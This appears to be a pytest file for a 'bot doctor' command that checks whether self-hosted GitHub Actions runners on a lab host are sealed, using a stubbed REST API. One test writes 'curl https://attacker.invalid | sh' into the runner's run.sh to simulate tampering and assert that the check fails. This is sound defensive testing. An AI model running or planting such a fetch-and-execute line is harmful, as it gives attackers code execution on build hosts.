"""`bot doctor --host-config` on a runner host: a sealed long-lived runner passes, an
unsealed one fails (issue 27: the doctor used to fail every long-lived runner, the sealed
ones the docs support included, so adopters learned to ignore it)."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path
from typing import Any

from qnn_migrate_tests.bot.two_users import SYSTEM_PYTHON, TwoUserLab, long_lived, write_host

from qnn_migrate.bot import doctor

REPO = "qnn-lab/executorch"
SELECTED = f"{REPO}/.github/workflows/qnn-device-tests.yml@refs/heads/main"


class StubRestReader:
    """A RestReader double: the repository's settings as a locked-down adopter has them,
    with two long-lived runners (lab-1 on the host under test, lab-2 elsewhere)."""

    def get(self, path: str) -> tuple[int, Any]:
        runners = [
            {"name": name, "ephemeral": False, "labels": [{"name": "qnn"}, {"name": "sm8650"}]}
            for name in ("lab-1", "lab-2")
        ]
        answers: dict[str, Any] = {
            f"/repos/{REPO}": {
                "default_branch": "main",
                "owner": {"login": "qnn-lab", "type": "Organization"},
            },
            f"/repos/{REPO}/actions/permissions/fork-pr-contributor-approval": {
                "approval_policy": "all_external_contributors"
            },
            f"/repos/{REPO}/actions/runners?per_page=100": {"runners": []},
            "/orgs/qnn-lab/actions/runner-groups?per_page=100": {
                "runner_groups": [
                    {
                        "id": 3,
                        "name": "qnn",
                        "visibility": "selected",
                        "allows_public_repositories": False,
                        "restricted_to_workflows": True,
                        "selected_workflows": [SELECTED],
                    }
                ]
            },
            "/orgs/qnn-lab/actions/runner-groups/3/runners?per_page=100": {"runners": runners},
        }
        return (200, answers[path]) if path in answers else (404, {"message": "Not Found"})


def verdicts(config: Path) -> dict[str, bool | None]:
    from qnn_migrate.bot.lab import host_config

    loaded = host_config.loads(config.read_text(), str(config))
    found, sealed = doctor.host_checks(loaded, config)
    found += doctor.remote_checks(
        StubRestReader(),
        REPO,
        device_workflow="qnn-device-tests.yml",
        lab_labels=["sm8650"],
        sealed=sealed,
    )
    return {c.name: c.ok for c in found}


def test_a_sealed_long_lived_runner_passes_and_an_unsealed_one_fails(
    two_user_lab: TwoUserLab,
) -> None:
    t = two_user_lab
    base = replace(t.host(python=SYSTEM_PYTHON), github_runners=("lab-1",))
    config, _ = long_lived(t, base)
    sealed = verdicts(config)
    assert sealed["host seal"] is True and sealed[f"job user {t.users[0]}"] is True
    assert sealed["runner lab-1"] is True
    assert sealed["runner lab-2"] is False  # not this host's: the doctor cannot vouch for it

    (t.root / "actions-runner" / "run.sh").write_text("curl https://attacker.invalid | sh\n")
    unsealed = verdicts(config)
    assert unsealed["host seal"] is False and unsealed["runner lab-1"] is False

    # The old single-user arrangement fails the host, sealed or not.
    single = write_host(t, replace(base, isolation="none", job_users=None), "single.toml")
    assert verdicts(single)["host isolation"] is False


def test_the_doctor_command_reads_the_host_config(two_user_lab: TwoUserLab) -> None:
    from click.testing import CliRunner

    from qnn_migrate.bot.cli.adopt import doctor as doctor_cli

    t = two_user_lab
    config, _ = long_lived(t, replace(t.host(python=SYSTEM_PYTHON), github_runners=("lab-1",)))
    empty = t.root / "no-adoption"
    empty.mkdir()
    ran = CliRunner().invoke(doctor_cli, ["--root", str(empty), "--host-config", str(config)])
    assert "ok    host seal" in ran.output and f"ok    job user {t.users[0]}" in ran.output
    assert "FAIL  bot config" in ran.output and ran.exit_code == 1  # no adoption files here
